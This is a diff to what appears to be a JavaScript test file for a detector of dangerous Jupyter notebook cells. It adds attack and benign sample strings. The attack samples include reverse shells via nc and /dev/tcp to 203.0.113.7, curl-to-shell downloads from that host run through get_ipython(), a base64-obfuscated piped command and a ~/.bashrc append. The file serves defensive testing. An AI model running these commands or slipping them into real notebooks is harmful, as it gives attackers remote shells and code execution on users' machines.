@@ -25,6 +25,10 @@ const ATTACKS = [
   "%sx nc -e /bin/sh 203.0.113.7 4444",
   "%%bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
   "%%script --bg sh\ncurl http://203.0.113.7/a | sh",
+  "import os\nget_ipython().system('curl http://203.0.113.7/x.sh | bash')",
+  'get_ipython().run_cell_magic("bash", "", "curl http://203.0.113.7/x | sh\\n")',
+  "ip = get_ipython()\nip.getoutput('echo aWQ= | base64 -d | sh')",
+  "%%writefile -a ~/.bashrc\nid",
   "%%javascript\nJupyter.notebook.kernel.execute('import os; os.system(\"id\")')",
 ];
 
@@ -37,6 +41,8 @@ const HONEST = [
   "%%bash\nset -e\npip install -q torch\ncurl -L https://example.org/w.tar.gz | tar xz",
   "files = !ls *.py\nif files != []: print(files)",
   "x = a if not b else c\nassert x != 2",
+  "get_ipython().system('pip install -q torch')\nget_ipython().run_line_magic('matplotlib', 'inline')",
+  "get_ipython().system('curl -fsSL https://ollama.com/install.sh | sh')",
   "%%writefile a.py\nprint('!')",
   "%%html\n<b>x</b>",
 ];
